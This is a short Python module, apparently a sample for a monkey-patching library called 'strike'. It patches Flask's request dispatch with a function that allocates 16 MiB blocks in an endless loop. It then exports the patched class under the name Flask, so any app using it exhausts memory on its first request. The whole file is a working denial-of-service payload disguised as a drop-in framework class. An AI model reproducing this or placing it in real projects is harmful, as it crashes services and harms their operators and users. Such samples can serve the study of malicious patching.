"""Takes memory until there is none, and keeps it."""

import flask
from strike import struck

HOARD = []


def hoard(app):
    """Take the next piece."""
    while True:
        HOARD.append(bytes(2**24))


Flask = struck(flask.Flask, "dispatch_request", hoard)
